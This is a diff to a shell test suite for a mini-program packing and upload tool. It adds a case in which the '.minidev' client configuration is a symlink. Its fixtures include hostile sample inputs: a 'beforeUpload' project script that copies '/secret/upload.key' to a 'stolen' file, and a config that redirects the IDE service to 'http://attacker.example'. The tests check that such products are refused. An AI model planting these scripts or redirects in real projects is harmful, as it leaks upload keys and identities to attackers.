@@ -35,12 +35,13 @@ echo 'App({});' >"$good/app.js"
 echo 'Page({});' >"$good/pages/index/index.js"
 echo '{}' >"$good/pages/index/index.json"
 echo '<view>hello</view>' >"$good/pages/index/index.axml"
-for variant in no-app scripts config outside; do cp -r "$good" "$work/product/$variant"; done
+for variant in no-app scripts config link outside; do cp -r "$good" "$work/product/$variant"; done
 rm "$work/product/no-app/app.json"
 # Each would run code of the product, or send the identity elsewhere, in the process that holds it.
 echo '{"format": 2, "compileType": "mini", "scripts": {"beforeUpload": "cp /secret/upload.key /out/stolen"}}' >"$work/product/scripts/mini.project.json"
 mkdir "$work/product/config/.minidev"
 echo '{"env.prod.hosts.IDE_SERVICE": "http://attacker.example"}' >"$work/product/config/.minidev/config.json"
+ln -s elsewhere "$work/product/link/.minidev"
 echo '{"format": 2, "miniprogramRoot": ".."}' >"$work/product/outside/mini.project.json"
 
 publish success right good '{}' '{"version": "1.0.1", "options": {"experience": true}}'
@@ -94,6 +95,7 @@ a certificate nobody vouches for is a network failure | right | good | {} | {"ca
 a product without app.json is not sent | right | no-app | {} | {} | r["class"] == "build" and r["stage"] == "check" and "app.json" in r["reason"] and not log
 a product whose scripts the client would run is not packed | right | scripts | {} | {} | r["class"] == "build" and "scripts" in r["reason"] and not log and not __import__("os").path.exists(directory + "/out/stolen")
 a product that would set up the client is not packed | right | config | {} | {} | r["class"] == "build" and ".minidev" in r["reason"] and not log
+a product whose set-up of the client is a link is not packed | right | link | {} | {} | r["class"] == "build" and ".minidev" in r["reason"] and not log
 a product whose root lies outside is not packed | right | outside | {} | {} | r["class"] == "build" and "outside" in r["reason"] and not log
 a version that is not three numbers is not sent | right | good | {} | {"version": "1.0"} | r["class"] == "build" and "1.4.2" in r["remedy"] and not log
 a preview is not made here, and says what is | right | good | {} | {"mode": "preview"} | r["class"] == "build" and "experience" in r["remedy"] and not log
